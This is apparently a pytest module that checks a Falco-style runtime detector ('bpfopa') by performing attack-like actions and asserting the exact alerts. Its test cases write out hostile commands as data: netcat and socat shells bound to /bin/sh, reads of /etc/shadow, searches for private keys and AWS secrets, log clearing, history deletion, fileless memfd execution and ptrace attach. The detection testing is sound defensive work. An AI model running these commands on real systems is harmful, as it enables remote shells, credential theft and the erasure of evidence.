"""Every rule this host can trigger, triggered for real through `bpfopa run`.

One `bpfopa run` (real kernel capture, managed real OPA, the bundled policies) serves the whole
module. Each test performs the attack-like action in a child process and asserts that exactly
the expected alerts (rule titles, once each) arrive for that process tree. Rules that
legitimately fire together on one action are listed together, with the reason.

The container rules are triggered inside real containers in tests/container/test_rules_live.py.
Not covered: Linux Kernel Module Injection Detected (no init_module/finit_module tracepoints on
a kernel built without modules), Detect outbound connections to common miner pool ports (needs
the peer's DNS name, which the document does not carry, for a miner domain this offline host
cannot resolve).
"""

from __future__ import annotations

import ipaddress
import socket
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import require
from tests.kernel.conftest import CaptureHarness
from tests.kernel.rules_harness import (
    PYTHON,
    LiveRun,
    env_with,
    host_has_default_route,
    named_copy,
    python_action,
    removed_after,
    rules_off_by_default,
    run_action,
    unique,
)

# A documentation address (TEST-NET-2): never answers. UDP connect() to it only looks up a
# route and sends nothing, yet the socket call is an outbound connection to a routable peer.
ROUTABLE_PEER = "198.51.100.1"

NET_TOOL_HOST = "Launch Suspicious Network Tool on Host"
NC_RCE_HOST = "Netcat/Socat Remote Code Execution on Host"
INTERPRETED_OUT = "Interpreted procs outbound network activity"
SENSITIVE_UNTRUSTED = "Read sensitive file untrusted"
WRITE_ETC = "Write below etc"
MINER = "Known Cryptominer Process Executed"


@pytest.fixture(scope="module")
def live(
    tmp_path_factory: pytest.TempPathFactory, capture_session: CaptureHarness
) -> Iterator[LiveRun]:
    # The kernel tests' session capture (tests/kernel/conftest.py) lives in this process and
    # is quiet between tests (process state only); it also ignores the run and its managed
    # OPA, so that neither capture feeds on the other's /proc lookups and OPA traffic.
    # Every rule, the ones Falco ships disabled included (off by default here too).
    run = LiveRun(
        tmp_path_factory.mktemp("live-rules"),
        on_pid=capture_session.source.exclude_pid,
        enabled_rules=rules_off_by_default(),
    )
    # Startup (BCC compiles the probes, OPA loads ~90 rules) took 60-100 s on a shared
    # machine at load ~25; 90 s is the quiet-machine default.
    with run.running(timeout=180) as ready:
        yield ready


@pytest.fixture(scope="module")
def old_nginx(tmp_path_factory: pytest.TempPathFactory) -> Iterator[subprocess.Popen[str]]:
    """A long-running "nginx" (a python copy) started early, so that by the time its test runs
    it is past Falco's 5 s "new process" grace period. It reads /etc/shadow on request."""
    tools = tmp_path_factory.mktemp("nginx")
    nginx = named_copy(tools, "nginx", PYTHON)
    code = (
        "import sys\nfor _ in sys.stdin:\n"
        "    open('/etc/shadow', 'rb').close()\n    print('done', flush=True)"
    )
    proc = subprocess.Popen(
        [str(nginx), "-I", "-S", "-c", code],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    proc.started = time.monotonic()  # type: ignore[attr-defined]
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait(10)


def assert_exactly(live: LiveRun, action: Callable[[], int], expected: set[str]) -> None:
    """`action` (returning the pid it ran) raises exactly the `expected` alerts, once each."""
    pid, alerts, drops, caught_up = live.check(action, expected)
    assert caught_up, f"pid {pid}: bpfopa run did not catch up within 60 s (canary alert missing)"
    titles = Counter(a["rule"] for a in alerts)
    lost = f"; bpfopa reported lost events: {[d['output'] for d in drops]}" if drops else ""
    assert set(titles) == expected, (
        f"pid {pid}: got {dict(titles)}, want {sorted(expected)}{lost}; "
        f"outputs: {[a.get('output') for a in alerts]}"
    )
    assert all(n == 1 for n in titles.values()), f"pid {pid}: duplicated alerts {dict(titles)}"
    for alert in alerts:
        assert alert["priority"] and alert["tags"] and alert["output_fields"]


# --- programs run by name ------------------------------------------------------------------


@dataclass(frozen=True)
class Exec:
    """Run `argv` (a `{tmp}` placeholder is the test's temp dir); a first word without a slash
    that is not a real tool is a copy of /bin/true under that name."""

    argv: tuple[str, ...]
    expected: frozenset[str]
    env: tuple[tuple[str, str], ...] = ()
    fake: bool = True
    check: bool = True


EXEC_CASES = {
    "nc": Exec(("nc", "-z", ROUTABLE_PEER, "80"), frozenset({NET_TOOL_HOST})),
    "nmap": Exec(("nmap", "-sT", ROUTABLE_PEER), frozenset({NET_TOOL_HOST})),
    # The netcat RCE rule is a refinement of the network tool rule: Falco fires both.
    "nc -e": Exec(
        ("nc", "-e", "/bin/sh", ROUTABLE_PEER, "4444"), frozenset({NET_TOOL_HOST, NC_RCE_HOST})
    ),
    "socat EXEC": Exec(
        ("socat", "TCP-LISTEN:4444", "EXEC:/bin/sh"), frozenset({NET_TOOL_HOST, NC_RCE_HOST})
    ),
    "useradd": Exec(("useradd", "bpfopa-nobody"), frozenset({"User mgmt binaries"})),
    "xmrig": Exec(("xmrig", "--donate-level", "1"), frozenset({MINER})),
    "crontab": Exec(("crontab", "-l"), frozenset({"Schedule Cron Jobs"})),
    "stratum miner": Exec(
        ("xmrig", "-o", "stratum+tcp://pool.example.net:3333"),
        frozenset({"Detect crypto miners using the Stratum protocol", MINER}),
    ),
    "curl with HTTP_PROXY": Exec(
        ("curl", "http://example.net/"),
        frozenset({"Program run with disallowed http proxy env"}),
        env=(("HTTP_PROXY", "http://127.0.0.1:3128"),),
    ),
    "shred": Exec(("shred", "{tmp}/data"), frozenset({"Remove Bulk Data from Disk"}), fake=False),
    "find id_rsa": Exec(
        ("find", "{tmp}", "-name", "id_rsa"),
        frozenset({"Search Private Keys or Passwords"}),
        fake=False,
    ),
    "grep private key": Exec(
        ("grep", "-rl", "BEGIN RSA PRIVATE", "{tmp}"),
        frozenset({"Search Private Keys or Passwords"}),
        fake=False,
        check=False,  # grep exits 1 when nothing matches
    ),
    "grep aws secret": Exec(
        ("grep", "aws_secret_access_key", "{tmp}/data"),
        frozenset({"Find AWS Credentials"}),
        fake=False,
        check=False,
    ),
    "find .aws/credentials": Exec(
        ("find", "{tmp}", "-path", "*/.aws/credentials"),
        frozenset({"Find AWS Credentials"}),
        fake=False,
    ),
    "cat /etc/shadow": Exec(("cat", "/etc/shadow"), frozenset({SENSITIVE_UNTRUSTED}), fake=False),
    "symlink to /etc/shadow": Exec(
        ("ln", "-s", "/etc/shadow", "{tmp}/shadow-link"),
        frozenset({"Create Symlink Over Sensitive Files"}),
        fake=False,
    ),
    "hardlink to /etc/shadow": Exec(
        ("ln", "/etc/shadow", "{tmp}/shadow-hardlink"),
        frozenset({"Create Hardlink Over Sensitive Files"}),
        fake=False,
    ),
    "chmod u+s": Exec(
        ("chmod", "u+s", "{tmp}/data"), frozenset({"Set Setuid or Setgid bit"}), fake=False
    ),
    "chmod g+s": Exec(
        ("chmod", "2755", "{tmp}/data"), frozenset({"Set Setuid or Setgid bit"}), fake=False
    ),
    "truncate a log": Exec(
        ("/bin/sh", "-c", ": > {tmp}/syslog"), frozenset({"Clear Log Activities"}), fake=False
    ),
    "read .bashrc": Exec(
        ("cat", "{tmp}/.bashrc"), frozenset({"Read Shell Configuration File"}), fake=False
    ),
    "delete shell history": Exec(
        ("rm", "{tmp}/.bash_history"),
        frozenset({"Delete or rename shell history"}),
        fake=False,
    ),
    "rename shell history": Exec(
        ("mv", "{tmp}/.zsh_history", "{tmp}/old-history"),
        frozenset({"Delete or rename shell history"}),
        fake=False,
    ),
}


@pytest.mark.parametrize("case", EXEC_CASES.values(), ids=EXEC_CASES.keys())
def test_exec(live: LiveRun, tmp_path: Path, case: Exec) -> None:
    argv = [arg.replace("{tmp}", str(tmp_path)) for arg in case.argv]
    if case.fake:
        tools = tmp_path / "bin"
        tools.mkdir()
        argv[0] = str(named_copy(tools, argv[0]))
    env = env_with(**dict(case.env)) if case.env else None
    hardlink = tmp_path / "shadow-hardlink"

    def action() -> int:
        (tmp_path / "data").write_text("aws_secret_access_key = not-a-real-key\n")
        (tmp_path / ".bashrc").write_text("# test\n")
        (tmp_path / ".bash_history").write_text("ls\n")
        (tmp_path / ".zsh_history").write_text("ls\n")
        (tmp_path / "syslog").write_text("old log line\n")
        for link in (hardlink, tmp_path / "shadow-link"):
            link.unlink(missing_ok=True)
        return run_action(argv, env=env, check=case.check)

    with removed_after(hardlink):
        assert_exactly(live, action, set(case.expected))


# --- files -------------------------------------------------------------------------------

_WRITE_EXISTING = "import os,sys\nos.close(os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND))"
_CREATE = "import os,sys\nos.close(os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT, 0o600))"


def test_modify_shell_configuration_file(live: LiveRun, tmp_path: Path) -> None:
    # The file exists already: opening it with O_CREAT would also (rightly) be a hidden file
    # creation.
    rc = tmp_path / ".bashrc"
    rc.write_text("# test\n")
    assert_exactly(
        live, lambda: python_action(_WRITE_EXISTING, str(rc)), {"Modify Shell Configuration File"}
    )


@pytest.mark.parametrize(
    "code",
    [
        _CREATE,
        "import os,sys\nos.mkdir(sys.argv[1])",
        "import os,sys\nvisible = os.path.join(os.path.dirname(sys.argv[1]), 'visible')\n"
        "open(visible, 'w').close()\nos.rename(visible, sys.argv[1])",
    ],
    ids=["file", "directory", "rename"],
)
def test_create_hidden_files_or_directories(live: LiveRun, tmp_path: Path, code: str) -> None:
    hidden = tmp_path / ".bpfopa-hidden"

    def action() -> int:
        if hidden.is_dir():
            hidden.rmdir()
        return python_action(code, str(hidden))

    assert_exactly(live, action, {"Create Hidden Files or Directories"})


def test_clear_log_activities_below_var_log(live: LiveRun) -> None:
    log = Path("/var/log") / unique()
    with removed_after(log):
        log.write_text("old log line\n")
        assert_exactly(
            live, lambda: run_action(["/bin/sh", "-c", f": > {log}"]), {"Clear Log Activities"}
        )


def test_schedule_cron_jobs_file(live: LiveRun) -> None:
    job = Path("/etc/cron.d") / unique()
    require(job.parent.is_dir(), "/etc/cron.d does not exist")
    with removed_after(job):
        assert_exactly(
            live, lambda: run_action(["touch", str(job)]), {"Schedule Cron Jobs", WRITE_ETC}
        )


def test_read_ssh_information(live: LiveRun) -> None:
    # A throwaway home directory: never read a real user's keys.
    home = Path("/home") / unique()
    with removed_after(home):
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "known_hosts").write_text("# test\n")
        assert_exactly(
            live,
            lambda: run_action(["cat", str(home / ".ssh" / "known_hosts")]),
            {"Read ssh information"},
        )


def test_write_below_monitored_ssh_dir(live: LiveRun) -> None:
    home = Path("/home") / unique()
    with removed_after(home):
        (home / ".ssh").mkdir(parents=True)
        (home / ".ssh" / "authorized_keys").write_text("# test\n")
        keys = str(home / ".ssh" / "authorized_keys")
        # Write-only open: Read ssh information (a read) must stay quiet.
        assert_exactly(
            live,
            lambda: python_action(_WRITE_EXISTING, keys),
            {"Write below monitored dir", "Adding ssh keys to authorized_keys"},
        )


def test_write_below_monitored_dir(live: LiveRun) -> None:
    target = Path("/usr/local/bin") / unique()
    require(target.parent.is_dir(), "/usr/local/bin does not exist")
    with removed_after(target):
        assert_exactly(
            live, lambda: python_action(_CREATE, str(target)), {"Write below monitored dir"}
        )


def test_write_below_binary_dir(live: LiveRun) -> None:
    target = Path("/usr/bin") / unique()
    with removed_after(target):
        assert_exactly(
            live, lambda: python_action(_CREATE, str(target)), {"Write below binary dir"}
        )


def test_mkdir_binary_dirs(live: LiveRun) -> None:
    target = Path("/usr/bin") / unique()
    with removed_after(target):

        def action() -> int:
            if target.is_dir():
                target.rmdir()
            return run_action(["mkdir", str(target)])

        assert_exactly(live, action, {"Mkdir binary dirs"})


def test_modify_binary_dirs(live: LiveRun) -> None:
    target = Path("/usr/bin") / unique()
    with removed_after(target):

        def action() -> int:
            target.write_text("")
            return run_action(["rm", str(target)])

        assert_exactly(live, action, {"Modify binary dirs"})


def test_create_files_below_dev(live: LiveRun) -> None:
    target = Path("/dev") / unique()
    with removed_after(target):
        assert_exactly(
            live, lambda: python_action(_CREATE, str(target)), {"Create files below dev"}
        )


def test_update_package_repository(live: LiveRun) -> None:
    target = Path("/etc/apt/sources.list.d") / f"{unique()}.list"
    require(target.parent.is_dir(), "/etc/apt/sources.list.d does not exist")
    with removed_after(target):
        assert_exactly(
            live,
            lambda: python_action(_CREATE, str(target)),
            {"Update Package Repository", WRITE_ETC},
        )


def test_write_below_rpm_database(live: LiveRun) -> None:
    # The rule (like Falco's) matches the prefix /var/lib/rpm; a sibling file keeps any real
    # rpm database untouched.
    target = Path("/var/lib") / f"rpm.{unique()}"
    with removed_after(target):
        assert_exactly(
            live, lambda: python_action(_CREATE, str(target)), {"Write below rpm database"}
        )


def test_directory_traversal_monitored_file_read(live: LiveRun, tmp_path: Path) -> None:
    depth = len(tmp_path.parts)
    relative = "../" * depth + "etc/hostname"
    assert_exactly(
        live,
        lambda: run_action(["cat", relative], cwd=tmp_path),
        {"Directory traversal monitored file read"},
    )


def test_read_sensitive_file_trusted_after_startup(
    live: LiveRun, old_nginx: subprocess.Popen[str]
) -> None:
    age = time.monotonic() - old_nginx.started  # type: ignore[attr-defined]
    time.sleep(max(0.0, 5.5 - age))
    assert old_nginx.stdin is not None and old_nginx.stdout is not None
    stdin, stdout = old_nginx.stdin, old_nginx.stdout

    def action() -> int:
        stdin.write("go\n")
        stdin.flush()
        assert stdout.readline().strip() == "done"
        return old_nginx.pid

    # nginx is a trusted server binary, not a trusted *reader*: Falco fires both rules.
    assert_exactly(live, action, {"Read sensitive file trusted after startup", SENSITIVE_UNTRUSTED})


# --- processes ---------------------------------------------------------------------------


def test_execution_from_dev_shm(live: LiveRun) -> None:
    target = Path("/dev/shm") / unique()
    with removed_after(target):
        named_copy(target.parent, target.name)
        assert_exactly(live, lambda: run_action([str(target)]), {"Execution from /dev/shm"})


_MEMFD_EXEC = """
import os
fd = os.memfd_create("bpfopa-test", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
os.execv(f"/proc/self/fd/{fd}", ["true"])
"""


def test_fileless_execution_via_memfd_create(live: LiveRun) -> None:
    assert_exactly(
        live, lambda: python_action(_MEMFD_EXEC), {"Fileless execution via memfd_create"}
    )


_TRACEME = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(0, 0, None, None) == 0  # PTRACE_TRACEME
"""

_ATTACH = """
import ctypes, os, signal, subprocess
libc = ctypes.CDLL(None, use_errno=True)
child = subprocess.Popen(["sleep", "30"])
assert libc.ptrace(16, child.pid, None, None) == 0  # PTRACE_ATTACH
os.waitpid(child.pid, 0)
libc.ptrace(17, child.pid, None, None)  # PTRACE_DETACH
child.kill()
child.wait()
"""


def test_ptrace_anti_debug_attempt(live: LiveRun) -> None:
    assert_exactly(live, lambda: python_action(_TRACEME), {"PTRACE anti-debug attempt"})


def test_ptrace_attached_to_process(live: LiveRun) -> None:
    assert_exactly(live, lambda: python_action(_ATTACH), {"PTRACE attached to process"})


_SETUID_ROOT = """
import os
try:
    os.setuid(0)
except PermissionError:
    pass
"""


def test_non_sudo_setuid(live: LiveRun) -> None:
    argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    assert_exactly(
        live,
        lambda: run_action([*argv, PYTHON, "-I", "-S", "-c", _SETUID_ROOT]),
        {"Non sudo setuid"},
    )


def test_non_sudo_setuid_that_succeeds(live: LiveRun) -> None:
    # nobody holding CAP_SETUID (ambient) really becomes root: after the call the process is
    # uid 0, and the rule must judge the caller it was (event.before), as Falco does at entry.
    argv = [
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "--inh-caps=+setuid",
        "--ambient-caps=+setuid",
    ]
    code = "import os; os.setuid(0); assert os.getuid() == 0"
    assert_exactly(
        live, lambda: run_action([*argv, PYTHON, "-I", "-S", "-c", code]), {"Non sudo setuid"}
    )


_SETNS_OWN = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
assert libc.setns(fd, 0) == 0, ctypes.get_errno()
"""


def test_change_thread_namespace(live: LiveRun) -> None:
    # Re-entering its own UTS namespace: a real setns(2) that changes nothing.
    assert_exactly(live, lambda: python_action(_SETNS_OWN), {"Change thread namespace"})


def test_run_shell_untrusted(live: LiveRun, tmp_path: Path) -> None:
    nginx = named_copy(tmp_path, "nginx", PYTHON)
    code = "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'exit 0'], check=True)"
    # A shell below a web server: Falco's sandbox rule Web Server Spawned Shell fires too.
    assert_exactly(
        live,
        lambda: run_action([str(nginx), "-I", "-S", "-c", code]),
        {"Run shell untrusted", "Web Server Spawned Shell"},
    )


def test_system_user_interactive(live: LiveRun, tmp_path: Path) -> None:
    # Below an "sshd", a system user (nobody) runs a command.
    sshd = named_copy(tmp_path, "sshd", PYTHON)
    code = (
        "import subprocess\nsubprocess.run(['setpriv', '--reuid=65534', '--regid=65534', "
        "'--clear-groups', '/bin/true'], check=True)"
    )
    assert_exactly(
        live, lambda: run_action([str(sshd), "-I", "-S", "-c", code]), {"System user interactive"}
    )


# --- network -----------------------------------------------------------------------------

_UDP_CONNECT = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((sys.argv[1], int(sys.argv[2])))
s.close()
"""


# Non-blocking: connect() returns EINPROGRESS at once (Falco counts it as a connection).
_TCP_SYN = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setblocking(False)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
except BlockingIOError:
    pass
s.close()
"""


def _require_route() -> None:
    require(host_has_default_route(), "no IPv4 default route: no routable peer to connect to")


def test_interpreted_procs_outbound_network_activity(live: LiveRun) -> None:
    _require_route()
    assert_exactly(
        live, lambda: python_action(_UDP_CONNECT, ROUTABLE_PEER, "53"), {INTERPRETED_OUT}
    )


def test_unexpected_udp_traffic(live: LiveRun) -> None:
    _require_route()
    assert_exactly(
        live,
        lambda: python_action(_UDP_CONNECT, ROUTABLE_PEER, "5000"),
        {"Unexpected UDP Traffic", INTERPRETED_OUT},
    )


def test_disallowed_ssh_connection_non_standard_port(live: LiveRun, tmp_path: Path) -> None:
    _require_route()
    # An executable named ssh (a python copy: exactly one non-blocking TCP connect, i.e. one
    # SYN towards a documentation address that never answers) on port 2222.
    ssh = named_copy(tmp_path, "ssh", PYTHON)
    assert_exactly(
        live,
        lambda: run_action([str(ssh), "-I", "-S", "-c", _TCP_SYN, ROUTABLE_PEER, "2222"]),
        {"Disallowed SSH Connection Non Standard Port"},
    )


_UDP_RECEIVER = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 0))
s.settimeout(10)
print(s.getsockname()[1], flush=True)
data, peer = s.recvfrom(100)
print(peer[0], flush=True)
"""


def _host_address() -> str:
    """This host's address on its default route (the source it would use for ROUTABLE_PEER)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((ROUTABLE_PEER, 9))
        return str(s.getsockname()[0])


def test_interpreted_procs_inbound_network_activity(live: LiveRun) -> None:
    _require_route()
    source = _host_address()
    require(not source.startswith("127."), "the default route's source address is a loopback one")

    def action() -> int:
        # A python UDP service on 127.0.0.1 receives a datagram whose source is the host's
        # routable address (sent over loopback: nothing leaves the host).
        receiver = subprocess.Popen(
            [PYTHON, "-I", "-S", "-c", _UDP_RECEIVER], stdout=subprocess.PIPE, text=True
        )
        assert receiver.stdout is not None
        port = int(receiver.stdout.readline())
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.bind((source, 0))
            sender.sendto(b"ping", ("127.0.0.1", port))
        assert receiver.stdout.readline().strip() == source
        assert receiver.wait(10) == 0
        return receiver.pid

    # Falco's Unexpected inbound connection source (off by default, on in this run) allows
    # only 127.0.0.1 and 10.0.0.0/8 as sources.
    expected = {"Interpreted procs inbound network activity"}
    if ipaddress.ip_address(source) not in ipaddress.ip_network("10.0.0.0/8"):
        expected.add("Unexpected inbound connection source")
    assert_exactly(live, action, expected)


# --- rules ported second, without an event-generator action --------------------------------

_SPAWN = "import subprocess, sys\nsubprocess.run(sys.argv[1:], check=True)"


def test_web_server_spawned_suspicious_child_process(live: LiveRun, tmp_path: Path) -> None:
    nginx = named_copy(tmp_path, "nginx", PYTHON)
    whoami = named_copy(tmp_path, "whoami")
    assert_exactly(
        live,
        lambda: run_action([str(nginx), "-I", "-S", "-c", _SPAWN, str(whoami)]),
        {"Web Server Spawned Suspicious Child Process"},
    )


def test_reverse_shell_from_web_server(live: LiveRun, tmp_path: Path) -> None:
    # A worker (not a shell, not a known tool) whose command line holds a reverse shell idiom.
    httpd = named_copy(tmp_path, "httpd", PYTHON)
    worker = named_copy(tmp_path, "worker")
    assert_exactly(
        live,
        lambda: run_action([str(httpd), "-I", "-S", "-c", _SPAWN, str(worker), "-c", "bash -i"]),
        {"Reverse Shell from Web Server"},
    )


_READ = "import sys\nopen(sys.argv[1], 'rb').close()"


def test_backdoored_library_loaded_into_sshd(live: LiveRun, tmp_path: Path) -> None:
    # A file named like the backdoored xz release, opened by a process named sshd.
    library = tmp_path / "liblzma.so.5.6.1"
    library.write_bytes(b"\x7fELF")
    sshd = named_copy(tmp_path, "sshd", PYTHON)
    assert_exactly(
        live,
        lambda: run_action([str(sshd), "-I", "-S", "-c", _READ, str(library)]),
        {"Backdoored library loaded into SSHD (CVE-2024-3094)"},
    )


_BPF_PROG_LOAD = """
import ctypes, os
nr = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(nr, 5, None, 0)  # BPF_PROG_LOAD without attributes: refused, still the attempt
"""


def test_bpf_program_not_profiled(live: LiveRun) -> None:
    assert_exactly(live, lambda: python_action(_BPF_PROG_LOAD), {"BPF Program Not Profiled"})
